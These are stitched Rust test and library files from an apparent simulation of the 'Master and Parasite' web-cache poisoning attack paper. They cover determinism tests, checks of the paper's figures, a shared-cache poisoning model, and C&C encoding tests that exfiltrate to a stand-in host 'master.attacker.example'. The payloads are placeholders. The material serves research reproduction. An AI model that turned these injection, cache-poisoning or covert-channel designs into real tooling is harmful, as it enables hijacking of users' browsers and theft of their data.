            fleet_clients: 800,
            fleet_aps: 8,
            fleet_jobs: 1,
            ..RunConfig::default()
        },
        RunConfig {
            fleet_clients: 800,
            fleet_aps: 8,
            fleet_shards: 4,
            jitter_us: 250,
            fleet_jobs: 1,
            ..RunConfig::default()
        },
    ];
    let sequential = run_many(&ids, &configs, 1);
    let parallel = run_many(&ids, &configs, 4);
    assert_eq!(sequential.len(), 4);
    assert_eq!(sequential, parallel);
    for (a, b) in sequential.iter().zip(&parallel) {
        // Byte-for-byte equal down to the rendered text and the JSON wire
        // form, not just structural equality.
        assert_eq!(a.render_text(), b.render_text());
        assert_eq!(a.to_json().to_string(), b.to_json().to_string());
    }
    // The Figure 2 flow retains its exact timeline (full trace render).
    assert!(sequential[0].render_text().contains("[ATTACK]"));
}

#[test]
fn attack_surface_is_byte_identical_across_jobs_shards_and_batch_runners() {
    // The surface sweep's determinism contract, end to end: the same grid
    // produces byte-for-byte identical artifacts whether the cells run
    // sequentially, on a thread pool, under a (no-op) shard hint, or inside
    // a parallel run_many batch.
    let base = RunConfig {
        surface_trials: 24,
        surface_delay_steps: 4,
        jitter_us: 300,
        fleet_jobs: 1,
        ..RunConfig::default()
    };
    let ids = [ExperimentId::AttackSurface];
    let sequential = run_many(&ids, &[base], 1);
    for variant in [
        RunConfig { fleet_jobs: 4, ..base },
        RunConfig { fleet_jobs: 0, ..base },
        RunConfig { fleet_shards: 8, ..base },
    ] {
        let parallel = run_many(&ids, &[variant], 4);
        assert_eq!(sequential[0].data, parallel[0].data);
        assert_eq!(sequential[0].render_text(), parallel[0].render_text());
        assert_eq!(
            sequential[0].data.to_json().to_string(),
            parallel[0].data.to_json().to_string()
        );
    }
    // The acceptance property holds on the emitted grid: success never rises
    // with reaction delay or defense adoption.
    let result = sequential[0].data.as_attack_surface().expect("surface artifact");
    for vector in &result.vectors {
        for pair in vector.success_vs_delay.windows(2) {
            assert!(pair[1].successes <= pair[0].successes);
        }
        for pair in vector.infection_vs_adoption.windows(2) {
            assert!(pair[1].successes <= pair[0].successes);
        }
    }
}

#[test]
fn trace_summary_is_byte_identical_across_recorder_modes() {
    // The TraceSummary describes the workload, not the recorder: the same
    // café run must produce bit-for-bit equal counters whether the trace
    // retains everything, a bounded ring (including events evicted from it),
    // or nothing at all. Only the recorder-metadata drop counter may differ.
    let run = |mode: TraceMode| {
        let mut sim = cafe_world(2021, 300, mode);
        sim.run_until_idle().expect("scenario stays within the event budget");
        (*sim.trace().summary(), sim.trace().recorder_dropped(), sim.trace().len())
    };
    let (full, full_dropped, full_len) = run(TraceMode::Full);
    assert_eq!(full_dropped, 0);
    for mode in [TraceMode::Ring(3), TraceMode::Ring(1024), TraceMode::SummaryOnly] {
        let (summary, dropped, retained) = run(mode);
        assert_eq!(summary, full, "summary drifted under {mode:?}");
        // retained = total - recorder_dropped holds on every path.
        assert_eq!(retained as u64 + dropped, summary.total_events);
    }
    assert_eq!(full_len as u64, full.total_events);
}

#[test]
fn budget_exhaustion_then_raise_resumes_byte_identically() {
    // The reference: the same café run with no budget pressure at all.
    let (reference_render, reference_summary) = cafe_run(2021, 300);

    // Starve the run: the typed error fires before the in-flight event is
    // popped, so raising the budget and calling step()/run_until_idle()
    // again continues exactly where the run stopped.
    let mut sim = cafe_world(2021, 300, TraceMode::Full);
    sim.set_event_budget(5);
    let err = sim.run_until_idle().expect_err("five events cannot finish the cafe");
    assert_eq!(err, NetError::EventBudgetExhausted { budget: 5 });
    assert_eq!(sim.events_processed(), 5);

    // Raise a little and single-step: still resumable, still typed.
    sim.set_event_budget(8);
    while sim.step().expect("within the raised budget") {
        if sim.events_processed() == 8 {
            break;
        }
    }
    assert_eq!(
        sim.run_until_idle().expect_err("eight events are still not enough"),
        NetError::EventBudgetExhausted { budget: 8 }
    );

    // Lift the cap entirely: the finished trace is byte-identical to the
    // never-budgeted run.
    sim.set_event_budget(u64::MAX);
    sim.run_until_idle().expect("uncapped run finishes");
    assert_eq!(sim.trace().render(), reference_render);
    assert_eq!(*sim.trace().summary(), reference_summary);
}
