//! Determinism contract of the simulator and the batch engine.
//!
//! The data-structure refactors behind the hot path (slab hosts, calendar
//! event queue, the copy-free service path) are only acceptable if they
//! preserve the old-order contract: same seed, same configuration ⇒ the full
//! `Trace` render and the `TraceSummary` are byte-for-byte identical, run
//! after run — with and without medium jitter — and a `run_many` sweep
//! produces the same artifacts at `--jobs 1` as on a thread pool.

use master_parasite::netsim::addr::IpAddr;
use master_parasite::netsim::attacker::{Injector, ResponseInjector};
use master_parasite::netsim::capture::TraceSummary;
use master_parasite::netsim::link::MediumKind;
use master_parasite::netsim::sim::{FixedResponder, Simulator};
use master_parasite::netsim::time::Duration;
use parasite::experiments::{run_many, ExperimentId, RunConfig};
use parasite::json::ToJson;

/// The representative scenario: a café access point (shared WiFi) with the
/// master's tap on it, the genuine server across the WAN, and a handful of
/// victims — most requesting the object the master races for, some an
/// unprepared one. Returns the rendered full trace and the summary counters.
fn cafe_run(seed: u64, jitter_us: u64) -> (String, TraceSummary) {
    let mut sim = Simulator::new(seed);
    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
    if jitter_us > 0 {
        sim.set_medium_jitter(wifi, Duration::from_micros(jitter_us));
        sim.set_medium_jitter(wan, Duration::from_micros(jitter_us * 4));
    }
    let server = sim.add_host("server", IpAddr::new(203, 0, 113, 10), wan);
    sim.listen(server, 80);
    sim.set_service(
        server,
        Box::new(FixedResponder::new(
            &b"HTTP/1.1 200 OK\r\n\r\ngenuine-script();"[..],
            Duration::from_micros(500),
        )),
    );
    let tap = ResponseInjector::new(
        "master",
        Injector::default(),
        |payload| payload.starts_with(b"GET /my.js"),
        |_req| b"HTTP/1.1 200 OK\r\n\r\nparasite();".to_vec(),
    );
    sim.add_tap(wifi, Box::new(tap));

    for index in 0..8u8 {
        let name = format!("victim{index}");
        let client = sim.add_host(&name, IpAddr::new(10, 0, 0, 10 + index), wifi);
        let conn = sim.connect(client, server, 80).expect("hosts exist");
        let request: &[u8] = if index % 3 == 0 {
            b"GET /weather.js HTTP/1.1\r\nHost: somesite.com\r\n\r\n"
        } else {
            b"GET /my.js HTTP/1.1\r\nHost: somesite.com\r\n\r\n"
        };
        sim.send(client, conn, request).expect("connection exists");
    }
    sim.run_until_idle().expect("scenario stays within the event budget");
    (sim.trace().render(), *sim.trace().summary())
}

#[test]
fn cafe_trace_is_byte_identical_across_runs_without_jitter() {
    let (first_render, first_summary) = cafe_run(2021, 0);
    let (second_render, second_summary) = cafe_run(2021, 0);
    assert_eq!(first_render, second_render);
    assert_eq!(first_summary, second_summary);
    // The scenario is the paper's: the tap wins races for the prepared object.
    assert!(first_render.contains("[ATTACK]"));
    assert!(first_summary.injected_events > 0);
    assert!(first_summary.payload_events > 0);
}

#[test]
fn cafe_trace_is_byte_identical_across_runs_with_jitter() {
    let (first_render, first_summary) = cafe_run(2021, 300);
    let (second_render, second_summary) = cafe_run(2021, 300);
    assert_eq!(first_render, second_render, "same seed + jitter must replay exactly");
    assert_eq!(first_summary, second_summary);
    // A different seed draws different jitter, so the timeline moves.
    let (other_render, _) = cafe_run(2022, 300);
    assert_ne!(first_render, other_render);
    // Jitter only shifts timings; the message complement is unchanged.
    let (calm_render, calm_summary) = cafe_run(2021, 0);
    assert_eq!(first_summary.total_events, calm_summary.total_events);
    assert_ne!(first_render, calm_render);
}

#[test]
fn run_many_parallel_matches_jobs_one_for_flows_and_fleet() {
    let ids = [ExperimentId::Fig2, ExperimentId::CampaignFleet];
    let configs = [
        RunConfig {
            fleet_clients: 800,
            fleet_aps: 8,
            fleet_jobs: 1,
            ..RunConfig::default()
        },
        RunConfig {
            fleet_clients: 800,
            fleet_aps: 8,
            fleet_shards: 4,
            jitter_us: 250,
            fleet_jobs: 1,
            ..RunConfig::default()
        },
    ];
    let sequential = run_many(&ids, &configs, 1);
    let parallel = run_many(&ids, &configs, 4);
    assert_eq!(sequential.len(), 4);
    assert_eq!(sequential, parallel);
    for (a, b) in sequential.iter().zip(&parallel) {
        // Byte-for-byte equal down to the rendered text and the JSON wire
        // form, not just structural equality.
        assert_eq!(a.render_text(), b.render_text());
        assert_eq!(a.to_json().to_string(), b.to_json().to_string());
    }
    // The Figure 2 flow retains its exact timeline (full trace render).
    assert!(sequential[0].render_text().contains("[ATTACK]"));
}
