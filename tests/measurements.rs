//! Integration tests for the measurement studies: Figure 3 (persistency),
//! Figure 5 / §V (HTTPS, HSTS, CSP adoption) and the C&C channel numbers
//! (Figure 4), compared against the values the paper reports — all run
//! through the experiment registry.

use parasite::experiments::{run_many, ExperimentId, Fig3Result, Fig5Result, Registry, RunConfig};

fn run_fig3(config: &RunConfig) -> Fig3Result {
    Registry::get(ExperimentId::Fig3)
        .run(config)
        .data
        .as_fig3()
        .expect("fig3 artifact")
        .clone()
}

fn run_fig5(config: &RunConfig) -> Fig5Result {
    Registry::get(ExperimentId::Fig5)
        .run(config)
        .data
        .as_fig5()
        .expect("fig5 artifact")
        .clone()
}

#[test]
fn figure3_endpoints_match_the_paper_within_tolerance() {
    // The defaults encode the paper's setup: a 3000-site crawl over 100 days.
    let result = run_fig3(&RunConfig::default());
    let day5 = result.series.at(5).unwrap();
    let day100 = result.series.at(100).unwrap();

    // Paper: ~87.5 % of sites have a name-persistent object over 5 days.
    assert!((day5.name_persistent - 87.5).abs() < 4.0, "day 5: {}", day5.name_persistent);
    // Paper: 75.3 % still do after ~100 days.
    assert!((day100.name_persistent - 75.3).abs() < 4.0, "day 100: {}", day100.name_persistent);
    // The "any .js" curve stays roughly flat.
    assert!((day5.any_js - day100.any_js).abs() < 3.0);
    // Hash persistency always sits below name persistency.
    assert!(day100.hash_persistent < day100.name_persistent);
}

#[test]
fn figure5_and_in_text_adoption_numbers_match_the_paper() {
    // The defaults encode the paper's 15K-site policy scan.
    let result = run_fig5(&RunConfig::default());
    let s = &result.scan;

    assert!((s.tls.http_only_pct() - 21.0).abs() < 2.0, "http-only {}", s.tls.http_only_pct());
    assert!((s.tls.vulnerable_ssl_pct() - 7.0).abs() < 1.5, "ssl {}", s.tls.vulnerable_ssl_pct());
    assert!((s.hsts.without_hsts_pct() - 67.92).abs() < 3.0, "hsts {}", s.hsts.without_hsts_pct());
    assert!(s.hsts.strippable_pct() > 90.0 && s.hsts.strippable_pct() <= 100.0);
    assert!((s.csp.supplied_pct() - 4.7).abs() < 1.0, "csp supplied {}", s.csp.supplied_pct());
    assert!((s.csp.with_rules_pct() - 4.33).abs() < 1.0, "csp rules {}", s.csp.with_rules_pct());
    assert!((s.csp.deprecated_pct() - 15.3).abs() < 6.0, "deprecated {}", s.csp.deprecated_pct());
    // Paper: 160 connect-src uses, 17 of them wildcards (15K scan).
    assert!((s.csp.connect_src_uses as f64 - 160.0).abs() < 60.0, "connect-src {}", s.csp.connect_src_uses);
    assert!(s.csp.connect_src_wildcards < s.csp.connect_src_uses);
    assert!((s.google_analytics_pct() - 63.0).abs() < 2.0, "ga {}", s.google_analytics_pct());
}

#[test]
fn figure4_channel_capacity_matches_the_paper() {
    let artifact = Registry::get(ExperimentId::Fig4).run(&RunConfig::default());
    let result = artifact.data.as_fig4().expect("fig4 artifact");
    // 4 bytes per image, ~100 bytes per SVG, ≈100 KB/s with parallel requests.
    let (_, goodput_at_25) = result
        .goodput_curve
        .iter()
        .find(|(parallel, _)| *parallel == 25)
        .copied()
        .unwrap();
    assert!((goodput_at_25 - 100_000.0).abs() < 1.0);
    // The functional end-to-end check moved real bytes both ways.
    assert!(result.command_bytes_delivered > 0);
    assert!(result.upstream_bytes_delivered >= 40);
    // Goodput grows with parallelism.
    let goodputs: Vec<f64> = result.goodput_curve.iter().map(|(_, g)| *g).collect();
    assert!(goodputs.windows(2).all(|w| w[1] > w[0]));
}

#[test]
fn measurements_are_reproducible_across_runs_with_the_same_seed() {
    let fig5_config = RunConfig { sites: 2000, seed: 7, ..RunConfig::default() };
    assert_eq!(run_fig5(&fig5_config).scan, run_fig5(&fig5_config).scan);
    let fig3_config = RunConfig { crawl_sites: 500, days: 30, seed: 11, ..RunConfig::default() };
    assert_eq!(run_fig3(&fig3_config).series, run_fig3(&fig3_config).series);
}

#[test]
fn multi_seed_sweeps_run_in_parallel_and_stay_per_seed_deterministic() {
    // A Figure-3 sweep over three seeds on the batch engine: each seed's
    // series must match its own sequential rerun, and distinct seeds must
    // actually produce distinct populations.
    let base = RunConfig { crawl_sites: 300, days: 10, ..RunConfig::default() };
    let configs: Vec<RunConfig> = [3u64, 5, 9]
        .into_iter()
        .map(|seed| RunConfig { seed, ..base })
        .collect();
    let artifacts = run_many(&[ExperimentId::Fig3], &configs, 3);
    assert_eq!(artifacts.len(), 3);
    for artifact in &artifacts {
        let sequential = run_fig3(&artifact.config);
        assert_eq!(artifact.data.as_fig3().unwrap().series, sequential.series);
    }
    assert_ne!(
        artifacts[0].data.as_fig3().unwrap().series,
        artifacts[1].data.as_fig3().unwrap().series,
        "different seeds should generate different populations"
    );
}
