//! Property-based tests over the reproduction's core invariants.

use mp_browser::cache::HttpCache;
use mp_browser::profile::BrowserProfile;
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::caching::CacheDirectives;
use mp_httpsim::message::Response;
use mp_httpsim::url::Url;
use mp_netsim::capture::TraceMode;
use mp_netsim::seq::SeqNum;
use mp_netsim::tcp::Reassembler;
use parasite::cnc::{decode_dimensions, decode_upstream, encode_dimensions, encode_upstream};
use parasite::experiments::{ExperimentId, RunConfig};
use parasite::infect::Infector;
use parasite::json::{Json, ToJson};
use parasite::script::{Parasite, ParasiteModule};
use proptest::prelude::*;

proptest! {
    /// The C&C downstream image encoding is lossless for arbitrary payloads.
    #[test]
    fn cnc_downstream_encoding_round_trips(message in proptest::collection::vec(any::<u8>(), 0..512)) {
        let images = encode_dimensions(&message);
        let decoded = decode_dimensions(&images).expect("complete sequences always decode");
        prop_assert_eq!(decoded, message);
    }

    /// The C&C upstream URL encoding is lossless for arbitrary payloads.
    #[test]
    fn cnc_upstream_encoding_round_trips(data in proptest::collection::vec(any::<u8>(), 0..256)) {
        let url = encode_upstream("master.attacker.example", "campaign-0", &data);
        let (campaign, decoded) = decode_upstream(&url).expect("well-formed exfil url");
        prop_assert_eq!(campaign, "campaign-0");
        prop_assert_eq!(decoded, data);
    }

    /// Infecting a JavaScript object always preserves the original code as a
    /// prefix and always yields a detectable parasite.
    #[test]
    fn infection_preserves_original_and_is_detectable(original in "[ -~]{0,200}") {
        let infector = Infector::new(Parasite::standard("master.attacker.example"));
        let clean = Response::ok(Body::text(ResourceKind::JavaScript, original.clone()))
            .with_cache_control("max-age=60");
        let infected = infector.infect_response(&clean);
        let text = infected.body.as_text();
        prop_assert!(text.starts_with(&original));
        prop_assert!(Parasite::detect(&text).is_some());
        // Infection is idempotent in the detection sense: re-detecting the
        // campaign from a doubly-infected body still works.
        let twice = infector.infect_response(&infected);
        prop_assert!(infector.is_infected(&twice.body.as_text()));
    }

    /// Parasite payload serialisation round-trips arbitrary module subsets.
    #[test]
    fn parasite_modules_round_trip(mask in 0u16..(1 << 14)) {
        let all = [
            ParasiteModule::CommandControl, ParasiteModule::ReadBrowserData,
            ParasiteModule::ExtractProtectedData, ParasiteModule::ExtractLoginData,
            ParasiteModule::ReadDomData, ParasiteModule::Propagate,
            ParasiteModule::Phishing, ParasiteModule::StealComputation,
            ParasiteModule::ManipulateTransactions, ParasiteModule::FakeLogin,
            ParasiteModule::AdInjection, ParasiteModule::Ddos,
            ParasiteModule::InternalNetworkRecon, ParasiteModule::SideChannels,
        ];
        let modules: Vec<_> = all.iter().enumerate()
            .filter(|(i, _)| mask & (1 << i) != 0)
            .map(|(_, m)| *m)
            .collect();
        let parasite = Parasite::with_modules("c2.example", modules.clone());
        let recovered = Parasite::detect(&parasite.payload_snippet()).expect("payload detectable");
        prop_assert_eq!(recovered.modules, modules);
    }

    /// First-segment-wins: whatever bytes are offered first for an offset are
    /// what the application sees, regardless of later writes.
    #[test]
    fn reassembler_first_write_wins(
        first in proptest::collection::vec(1u8..255, 1..64),
        second in proptest::collection::vec(1u8..255, 1..64),
    ) {
        let mut reassembler = Reassembler::new();
        reassembler.offer(0, &first);
        reassembler.offer(0, &second);
        prop_assert_eq!(&reassembler.assembled()[..first.len()], &first[..]);
    }

    /// TCP sequence-number window membership is consistent with distance.
    #[test]
    fn seq_window_membership_matches_distance(base in any::<u32>(), offset in 0u32..100_000, window in 1u32..100_000) {
        let start = SeqNum::new(base);
        let candidate = start + offset;
        prop_assert_eq!(candidate.in_window(start, window), offset < window);
    }

    /// The browser cache never exceeds its capacity for LRU profiles, no
    /// matter the insertion pattern.
    #[test]
    fn lru_cache_respects_its_budget(sizes in proptest::collection::vec(1usize..5_000, 1..40)) {
        let profile = BrowserProfile { cache_capacity_bytes: 20_000, ..BrowserProfile::chrome() };
        let mut cache = HttpCache::new(profile);
        for (index, size) in sizes.iter().enumerate() {
            let url = Url::parse(&format!("http://site{index}.example/object.js")).unwrap();
            let response = Response::ok(Body::binary(ResourceKind::JavaScript, vec![0u8; *size]))
                .with_cache_control("max-age=86400");
            cache.store(&url, "site.example", response, index as u64);
            prop_assert!(cache.used_bytes() <= 20_000);
        }
    }

    /// Cache-Control parsing and re-rendering is a fixpoint.
    #[test]
    fn cache_directives_render_parse_fixpoint(max_age in proptest::option::of(0u64..10_000_000), flags in 0u8..32) {
        let directives = CacheDirectives {
            max_age,
            s_maxage: None,
            no_store: flags & 1 != 0,
            no_cache: flags & 2 != 0,
            private: flags & 4 != 0,
            public: flags & 8 != 0,
            must_revalidate: flags & 16 != 0,
            immutable: false,
        };
        let rendered = directives.to_header_value();
        let reparsed = CacheDirectives::parse(&rendered);
        prop_assert_eq!(directives, reparsed);
    }

    /// URL parsing round-trips through Display for simple host/path/query forms.
    #[test]
    fn url_display_parse_round_trip(host_index in 0usize..5, path in "/[a-z]{1,12}(\\.js)?", query in proptest::option::of("[a-z]{1,8}=[a-z0-9]{1,8}")) {
        let hosts = ["example.com", "bank.example", "a.b.example.org", "site1.example", "x.y"];
        let mut url_string = format!("http://{}{}", hosts[host_index], path);
        if let Some(q) = &query {
            url_string.push('?');
            url_string.push_str(q);
        }
        let parsed = Url::parse(&url_string).expect("constructed urls parse");
        prop_assert_eq!(parsed.to_string(), url_string);
    }

    /// `ExperimentId` survives a Display → FromStr round trip for every
    /// variant (paper set plus extensions), including case-mangled and
    /// whitespace-padded spellings.
    #[test]
    fn experiment_id_display_from_str_round_trips(index in 0usize..12, mangle in 0u8..4) {
        let id = ExperimentId::EXTENDED[index];
        let rendered = id.to_string();
        let spelled = match mangle {
            0 => rendered.clone(),
            1 => rendered.to_uppercase(),
            2 => format!("  {rendered}"),
            _ => format!("{rendered}\t"),
        };
        prop_assert_eq!(spelled.parse::<ExperimentId>(), Ok(id));
    }

    /// `RunConfig` survives a JSON serialize → parse → deserialize round trip
    /// for arbitrary field values (JSON numbers are doubles, so integers are
    /// exact up to 2^53 — the same contract JavaScript consumers get).
    #[test]
    fn run_config_json_round_trips(
        seed in 0u64..(1u64 << 53),
        scale in 1u64..1_000_000,
        sites in 0usize..1_000_000,
        crawl_sites in 0usize..1_000_000,
        days in 0u32..10_000,
        event_budget in 1u64..100_000_000,
        trace_mode_pick in 0u8..3,
        ring in 1usize..1_000_000,
        jitter_us in 0u64..1_000_000,
        fleet_clients in 0usize..1_000_000,
        fleet_aps in 1usize..10_000,
        fleet_shards in 1usize..64,
        fleet_jobs in 0usize..64,
        fleet_days in 1u32..400,
        fleet_churn_millis in 0u64..1_000,
        fleet_hetero_pick in 0u8..2,
        fleet_visit_prob_millis in 1u64..=1_024,
        global_event_budget in 0u64..100_000_000,
        surface_trials in 1usize..100_000,
        surface_delay_start_us in 0u64..1_000_000,
        surface_delay_end_us in 0u64..1_000_000,
        surface_delay_steps in 1usize..10_000,
        surface_wan_start_us in 0u64..1_000_000,
        surface_wan_end_us in 0u64..1_000_000,
        surface_wan_steps in 1usize..10_000,
        surface_adoption_steps in 1usize..10_000,
        surface_vectors in 0u8..16,
    ) {
        let fleet_hetero = fleet_hetero_pick == 1;
        let trace_mode = match trace_mode_pick {
            0 => TraceMode::Full,
            1 => TraceMode::SummaryOnly,
            _ => TraceMode::Ring(ring),
        };
        // Dyadic fractions in [0, 1] that are exact in both f64 and JSON.
        let fleet_churn = fleet_churn_millis as f64 / 1_024.0;
        let fleet_visit_prob = fleet_visit_prob_millis as f64 / 1_024.0;
        let config = RunConfig {
            seed, scale, sites, crawl_sites, days, event_budget,
            trace_mode, jitter_us, fleet_clients, fleet_aps, fleet_shards, fleet_jobs,
            fleet_days, fleet_churn, fleet_hetero, fleet_visit_prob, global_event_budget,
            surface_trials, surface_delay_start_us, surface_delay_end_us,
            surface_delay_steps, surface_wan_start_us, surface_wan_end_us,
            surface_wan_steps, surface_adoption_steps, surface_vectors,
        };
        let text = config.to_json().to_string();
        let parsed = Json::parse(&text).expect("config JSON parses");
        prop_assert_eq!(RunConfig::from_json(&parsed), Some(config));
    }
}
