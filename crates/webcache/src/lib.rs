//! # mp-webcache
//!
//! The network-cache taxonomy of the *Master and Parasite Attack* paper
//! (Table IV) and a shared-cache model that demonstrates cross-victim
//! infection through caches that many clients share.
//!
//! * [`taxonomy`] — every row of Table IV (browser caches, transparent
//!   proxies, web filters, firewalls, transport-link caches, reverse
//!   proxies/CDNs, WAFs, ISP and mobile-network caches) with its HTTP/HTTPS
//!   caching support classification,
//! * [`shared`] — [`shared::SharedCache`], an
//!   [`mp_httpsim::transport::Exchange`] middlebox that stores responses in a
//!   store shared by all clients behind it, so one poisoned response infects
//!   every later client.
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod shared;
pub mod taxonomy;

pub use shared::{SharedCache, SharedCacheStats};
pub use taxonomy::{
    summarise, table4_entries, CacheClass, CacheInstance, CacheLocation, CachingSupport,
    TaxonomySummary,
};
