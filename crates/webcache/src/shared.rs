//! Shared (multi-client) HTTP caches.
//!
//! Network caches — transparent proxies, web filters, firewall proxies, CDN
//! edges, ISP caches — serve many clients from one store and provide no
//! per-client isolation (paper §VI-B2). That design is exactly what turns a
//! single injected response into an infection of *every* client behind the
//! cache: the poisoned entry is stored once and then handed to everyone who
//! asks for the same URL.

use crate::taxonomy::CacheInstance;
use mp_httpsim::caching::{CachePolicy, Freshness};
use mp_httpsim::message::{Request, Response, StatusCode};
use mp_httpsim::url::{Scheme, Url};
use std::collections::BTreeMap;

/// Statistics a shared cache keeps about its own behaviour.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SharedCacheStats {
    /// Requests answered from the store.
    pub hits: u64,
    /// Requests forwarded upstream.
    pub misses: u64,
    /// Responses stored.
    pub stored: u64,
}

/// A shared cache positioned between a set of clients and an upstream
/// [`mp_httpsim::transport::Exchange`].
pub struct SharedCache<U> {
    /// The Table IV row this cache instantiates.
    instance: CacheInstance,
    upstream: U,
    policy: CachePolicy,
    // The mp-lint audit found only keyed lookups here (no iteration), but
    // an ordered store keeps any future drain deterministic by construction.
    store: BTreeMap<String, (Response, u64)>,
    now_secs: u64,
    /// Whether this deployment terminates/inspects TLS so HTTPS responses are
    /// visible to it (e.g. an enterprise web filter doing interception or a
    /// CDN terminating TLS).
    sees_https: bool,
    stats: SharedCacheStats,
}

impl<U: std::fmt::Debug> std::fmt::Debug for SharedCache<U> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SharedCache")
            .field("instance", &self.instance.name)
            .field("entries", &self.store.len())
            .field("stats", &self.stats)
            .finish()
    }
}

impl<U: mp_httpsim::transport::Exchange> SharedCache<U> {
    /// Creates a shared cache for a taxonomy row in front of `upstream`.
    ///
    /// `sees_https` should reflect the deployment (TLS interception or
    /// offload); it is combined with the row's HTTPS caching support.
    pub fn new(instance: CacheInstance, upstream: U, sees_https: bool) -> Self {
        SharedCache {
            instance,
            upstream,
            policy: CachePolicy::shared_cache(),
            store: BTreeMap::new(),
            now_secs: 0,
            sees_https,
            stats: SharedCacheStats::default(),
        }
    }

    /// The taxonomy row this cache models.
    pub fn instance(&self) -> &CacheInstance {
        &self.instance
    }

    /// Cache statistics.
    pub fn stats(&self) -> SharedCacheStats {
        self.stats
    }

    /// Number of stored entries.
    pub fn len(&self) -> usize {
        self.store.len()
    }

    /// Returns `true` if nothing is stored.
    pub fn is_empty(&self) -> bool {
        self.store.is_empty()
    }

    /// Advances the cache clock.
    pub fn advance_time(&mut self, secs: u64) {
        self.now_secs += secs;
    }

    /// Returns the stored response for `url`, if present (for experiments).
    pub fn peek(&self, url: &Url) -> Option<&Response> {
        self.store.get(&url.cache_key()).map(|(r, _)| r)
    }

    /// Returns `true` if this cache will handle (and potentially store)
    /// traffic for the given scheme.
    pub fn caches_scheme(&self, scheme: Scheme) -> bool {
        match scheme {
            Scheme::Http => self.instance.http.possible(),
            Scheme::Https => self.sees_https && self.instance.https.possible(),
        }
    }

    /// Directly plants a poisoned entry (used to model an infected object that
    /// already traversed the cache before the experiment starts).
    pub fn poison(&mut self, url: &Url, response: Response) {
        self.store.insert(url.cache_key(), (response, self.now_secs));
        self.stats.stored += 1;
    }

    /// Removes every stored entry (operator flushing the cache).
    pub fn flush(&mut self) {
        self.store.clear();
    }
}

impl<U: mp_httpsim::transport::Exchange> mp_httpsim::transport::Exchange for SharedCache<U> {
    fn exchange(&mut self, request: &Request) -> Response {
        // Traffic the cache cannot see or store is passed straight through.
        if !self.caches_scheme(request.url.scheme) {
            return self.upstream.exchange(request);
        }

        let key = request.url.cache_key();
        if let Some((stored, stored_at)) = self.store.get(&key) {
            let age = self.now_secs.saturating_sub(*stored_at);
            if let Freshness::Fresh { .. } = self.policy.freshness(stored, age) {
                self.stats.hits += 1;
                return stored.clone();
            }
        }

        self.stats.misses += 1;
        let response = self.upstream.exchange(request);
        if response.status == StatusCode::OK && self.policy.is_storable(&response) {
            self.store.insert(key, (response.clone(), self.now_secs));
            self.stats.stored += 1;
        }
        response
    }

    fn name(&self) -> &str {
        &self.instance.name
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::taxonomy::table4_entries;
    use mp_httpsim::body::{Body, ResourceKind};
    use mp_httpsim::transport::{Exchange, StaticOrigin};

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    fn get(s: &str) -> Request {
        Request::get(url(s))
    }

    fn origin_with_script() -> StaticOrigin {
        let mut origin = StaticOrigin::new("top1.com");
        origin.put_text(
            "/persistent.js",
            ResourceKind::JavaScript,
            "genuine()",
            "public, max-age=86400",
        );
        origin
    }

    fn squid() -> CacheInstance {
        table4_entries().into_iter().find(|e| e.name == "Squid").unwrap()
    }

    #[test]
    fn miss_then_hit() {
        let mut cache = SharedCache::new(squid(), origin_with_script(), false);
        let r1 = cache.exchange(&get("http://top1.com/persistent.js"));
        assert_eq!(r1.body.as_text(), "genuine()");
        let r2 = cache.exchange(&get("http://top1.com/persistent.js"));
        assert_eq!(r2.body.as_text(), "genuine()");
        let stats = cache.stats();
        assert_eq!(stats.misses, 1);
        assert_eq!(stats.hits, 1);
        assert_eq!(cache.len(), 1);
    }

    #[test]
    fn one_poisoned_entry_infects_every_client_behind_the_proxy() {
        let mut cache = SharedCache::new(squid(), origin_with_script(), false);
        let infected = Response::ok(Body::text(ResourceKind::JavaScript, "genuine();PARASITE();"))
            .with_cache_control("public, max-age=31536000, immutable");
        cache.poison(&url("http://top1.com/persistent.js"), infected);

        // Three different victims behind the same proxy all get the parasite.
        for _ in 0..3 {
            let response = cache.exchange(&get("http://top1.com/persistent.js"));
            assert!(response.body.as_text().contains("PARASITE"));
        }
        assert_eq!(cache.stats().hits, 3);
    }

    #[test]
    fn infected_upstream_response_poisons_the_cache_for_later_clients() {
        // The upstream here models the path segment where the attacker's
        // spoofed response is what actually arrives.
        let mut infected_origin = StaticOrigin::new("top1.com");
        infected_origin.put_text(
            "/persistent.js",
            ResourceKind::JavaScript,
            "genuine();PARASITE();",
            "public, max-age=31536000",
        );
        let mut cache = SharedCache::new(squid(), infected_origin, false);
        // Victim A's request pulls the infected object through the proxy.
        let a = cache.exchange(&get("http://top1.com/persistent.js"));
        assert!(a.body.as_text().contains("PARASITE"));
        // Victim B never touched the attacker's network segment but is served
        // the poisoned copy from the shared store.
        let b = cache.exchange(&get("http://top1.com/persistent.js"));
        assert!(b.body.as_text().contains("PARASITE"));
        assert_eq!(cache.stats().hits, 1);
    }

    #[test]
    fn https_handling_depends_on_row_and_deployment() {
        // Squid with no TLS interception: HTTPS passes through uncached.
        let mut passthrough = SharedCache::new(squid(), origin_with_script(), false);
        passthrough.exchange(&get("https://top1.com/persistent.js"));
        passthrough.exchange(&get("https://top1.com/persistent.js"));
        assert_eq!(passthrough.len(), 0);
        assert!(!passthrough.caches_scheme(Scheme::Https));

        // Squid *with* interception (HTTPS optional in Table IV): cached.
        let mut intercepting = SharedCache::new(squid(), origin_with_script(), true);
        intercepting.exchange(&get("https://top1.com/persistent.js"));
        assert_eq!(intercepting.len(), 1);

        // Blue Coat ProxySG: HTTPS not supported even with offload in front.
        let bluecoat = table4_entries().into_iter().find(|e| e.name == "Blue Coat ProxySG").unwrap();
        let bc = SharedCache::new(bluecoat, origin_with_script(), true);
        assert!(!bc.caches_scheme(Scheme::Https));
    }

    #[test]
    fn stale_entries_are_refetched_and_flush_clears_the_store() {
        let mut cache = SharedCache::new(squid(), origin_with_script(), false);
        cache.exchange(&get("http://top1.com/persistent.js"));
        cache.advance_time(100_000);
        cache.exchange(&get("http://top1.com/persistent.js"));
        assert_eq!(cache.stats().misses, 2, "expired entry must be refetched");
        cache.flush();
